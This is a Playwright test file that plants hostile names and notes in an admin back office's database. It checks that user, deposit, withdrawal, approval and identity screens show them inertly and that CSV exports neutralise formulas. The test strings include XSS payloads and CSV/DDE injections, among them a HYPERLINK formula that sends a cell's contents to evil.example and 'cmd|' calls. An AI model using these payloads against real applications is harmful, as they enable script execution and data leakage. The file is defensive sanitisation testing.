import { randomUUID } from 'node:crypto'
import { expect, type Page, test } from '@playwright/test'
import pg from 'pg'
import { callAs } from './deposits.ts'
import { submitWithFiles } from './identity.ts'
import { pressKey } from './keys.ts'
import { hasSidewaysScroll, productEnvironment, siteUrl, watchConsole } from './pages.ts'
import { enterAsNew, stayProved } from './people.ts'
import { newAdmin } from './staff.ts'

// What people may be called and write, shown to those who work here: in order, one after the other.
test.describe.configure({ mode: 'serial', timeout: 240_000 })

const run = 'window.hacked=1'
const strings = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `<svg/onload=${run}>`,
  `"><iframe srcdoc="<script>parent.${run}</script>">`,
  `javascript:${run}//`,
  `{{constructor.constructor('${run}')()}}`,
  '$t(nav.users) {{name}} %s %d',
  '=HYPERLINK("https://evil.example/?a="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '-2+3+cmd|x',
  '\tcmd',
  '\u202egnp.exe\u202c \u2067rtl\u2069',
  'مرحبا بالعالم',
  '👩‍👩‍👧‍👦 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(8),
  'W'.repeat(118),
] as const

/** Straight into the tables: the forms refuse some of it, and what is stored must be harmless even so. */
async function plant(): Promise<string[]> {
  const client = new pg.Client({ connectionString: productEnvironment()['DATABASE_OWNER_URL'] })
  await client.connect()
  try {
    const ids: string[] = []
    for (const [index, text] of strings.entries()) {
      const id = randomUUID()
      ids.push(id)
      await client.query(
        `insert into accounts.person (id, email, username, full_name, role, language, password_hash, email_verified_at)
         values ($1, $2, $3, $4, 'user', 'en', '$argon2id$none', clock_timestamp())`,
        [id, `hostile${index}@example.org`, `hostile_${index}`, text],
      )
      await client.query(
        `insert into deposits.deposit (id, person_id, gateway, state, amount_micro, cash_micro, reference, note)
         values (gen_random_uuid(), $1, 'bank', 'rejected', 20000000, 20000000, $2, $2)`,
        [id, text],
      )
      await client.query(
        `insert into withdrawals.withdrawal (id, person_id, request_key, type, method, amount_micro, bank_name, account_name,
           account_number, tier, state, risk, hold_entry_id, end_entry_id, note)
         values (gen_random_uuid(), $1, gen_random_uuid(), 'capital', 'bank', 20000000, $2, $2, '12345', 'two', 'cancelled',
           '{}', 1, 1, $2)`,
        [id, text.slice(0, 100)],
      )
    }
    return ids
  } finally {
    await client.end()
  }
}

let ids: string[]
let admin: Page
let errors: string[]
const dialogs: string[] = []

test.beforeAll(async ({ browser }) => {
  ids = await plant()
  admin = await newAdmin(browser, '<b onclick=alert(1)>Hanna</b>', [
    'support',
    'kyc_reviewer',
    'finance_maker',
    'owner',
  ])
  errors = watchConsole(admin)
  admin.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await admin.addInitScript(() => {
    const broken: string[] = []
    Object.assign(window, { broken })
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      broken.push(`${violatedDirective} ${blockedURI}`),
    )
  })
})
test.afterAll(async () => {
  await admin.context().close()
})

/** With a token that is good: one that has run out is renewed when something is asked. */
async function adminHeaders(): Promise<Record<string, string>> {
  await callAs(admin, 'GET', 'user/me')
  const token = await admin.evaluate(() => localStorage.getItem('token'))
  return { authorization: `Bearer ${token}`, 'clearhold-edition': 'demo' }
}

/** Nothing ran, nothing was refused to run either, and nothing pushes the page aside. */
async function expectHarmless(where: string): Promise<void> {
  await expect(admin.locator('[aria-busy=true]')).toHaveCount(0)
  const found = await admin.evaluate(() => {
    const { hacked, broken } = window as unknown as { hacked?: number; broken: string[] }
    const foreign = document.querySelectorAll('main iframe, main script, main img[src="x"], main svg[onload]').length
    return { hacked, broken, foreign }
  })
  expect({ where, dialogs, errors, ...found }).toEqual({
    where,
    dialogs: [],
    errors: [],
    hacked: undefined,
    broken: [],
    foreign: 0,
  })
  for (const width of [1440, 390]) {
    await admin.setViewportSize({ width, height: 844 })
    expect(await hasSidewaysScroll(admin), `${where} at ${width}`).toBe(false)
  }
  await admin.setViewportSize({ width: 1440, height: 900 })
}

test('hostile: lists of users, deposits and withdrawals show every string as it is, and run none', async () => {
  await admin.goto(siteUrl('/admin/users?search=hostile'))
  for (const text of strings.slice(0, 6)) await expect(admin.getByText(text, { exact: true }).first()).toBeVisible()
  await expectHarmless('users')
  await admin.goto(siteUrl('/admin/deposits?search=hostile_'))
  await expect(admin.locator('tbody tr')).toHaveCount(strings.length)
  await expectHarmless('deposits')
  await admin.goto(siteUrl('/admin/withdrawals?state=all&search=hostile_'))
  await expect(admin.locator('tbody tr')).toHaveCount(strings.length)
  await expectHarmless('withdrawals')
})

test('hostile: every panel shows it and runs nothing', async () => {
  const panel = admin.getByRole('complementary')
  await admin.goto(siteUrl('/admin/users?search=hostile'))
  for (const [index, id] of ids.entries()) {
    const text = strings[index] ?? ''
    await admin.locator(`tbody th a[href*="user=${id}"]`).click()
    await expect(panel.getByRole('heading', { level: 2 })).toHaveText(text.trim())
    await expectHarmless(`person ${text}`)
  }
  await admin.goto(siteUrl('/admin/deposits?search=hostile_'))
  for (const [index, text] of strings.entries()) {
    await admin.getByRole('link', { name: `hostile_${index}`, exact: true }).click()
    await expect(panel.getByText(text.trim()).first()).toBeVisible()
    await expectHarmless(`deposit ${text}`)
  }
  await admin.goto(siteUrl('/admin/withdrawals?state=all&search=hostile_'))
  for (const [index, text] of strings.entries()) {
    await admin
      .locator('tbody tr')
      .filter({ has: admin.getByText(`hostile_${index}`, { exact: true }) })
      .locator('th a')
      .click()
    await expect(admin.locator('.case-head')).toContainText(`hostile${index}@example.org`)
    await expectHarmless(`withdrawal ${text}`)
  }
})

test('hostile: the palette shows it and runs nothing', async () => {
  await admin.goto(siteUrl('/admin'))
  await expect(admin.getByRole('button', { name: /^Find by ID/ })).toBeVisible()
  await pressKey(admin, 'Control+k')
  const line = admin.getByRole('combobox', { name: 'Find or do' })
  for (const text of strings) {
    await line.fill(text)
    if (text.trim().length > 1) await expect(admin.getByRole('option').first()).toBeVisible()
  }
  await line.fill('hostile1@')
  await expect(admin.getByRole('option', { name: strings[1] }).first()).toBeVisible()
  await expectHarmless('palette')
  await admin.keyboard.press('Escape')
})

test('hostile: a request whose reason and person are hostile is read in the queue of approvals', async () => {
  const reason = `${strings[0]} ${'W'.repeat(150)}`
  await stayProved(admin)
  const headers = await adminHeaders()
  const data = { reason: reason.slice(0, 300) }
  const answer = await admin.request.delete(siteUrl(`/api/user/${ids[2]}`), { headers, data })
  expect(answer.ok(), await answer.text()).toBe(true)
  const { approvalId } = (await answer.json()) as { approvalId: string }
  await admin.goto(siteUrl(`/admin/approvals?show=mine&id=${approvalId}`))
  await expect(admin.getByText(reason.slice(0, 300)).first()).toBeVisible()
  await expectHarmless('approvals')
})

test('hostile: an identity case with such an address is read by a reviewer', async ({ browser }) => {
  const context = await browser.newContext()
  await enterAsNew(context)
  const page = await context.newPage()
  const address = `${strings[0]} ${strings[16].slice(0, 100)}`
  const reference = await submitWithFiles(page, address)
  await admin.goto(siteUrl(`/admin/kyc?search=${reference}`))
  await expect(admin.getByText(address).first()).toBeVisible()
  await expectHarmless('kyc')
  await context.close()
})

/** The cells of a CSV, read as RFC 4180 says. */
function cellsOf(csv: string): string[] {
  return [...csv.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

for (const [name, path] of [
  ['users', '/api/user.csv?search=hostile'],
  ['deposits', '/api/deposit.csv?search=hostile_'],
  ['withdrawals', '/api/admin/withdrawals.csv?search=hostile_'],
  ['approvals', '/api/admin/approvals.csv'],
] as const) {
  test(`hostile: no cell of the file of ${name} is a formula`, async () => {
    const answer = await admin.request.get(siteUrl(path), { headers: await adminHeaders() })
    expect(answer.headers()['content-type']).toBe('text/csv; charset=utf-8')
    expect(answer.headers()['content-disposition']).toMatch(/^attachment/)
    const cells = cellsOf(await answer.text())
    expect(cells.length).toBeGreaterThan(20)
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
    expect(formulas).toEqual([])
    if (name === 'users') expect(cells).toContain(`'${strings[7]}`)
  })
}
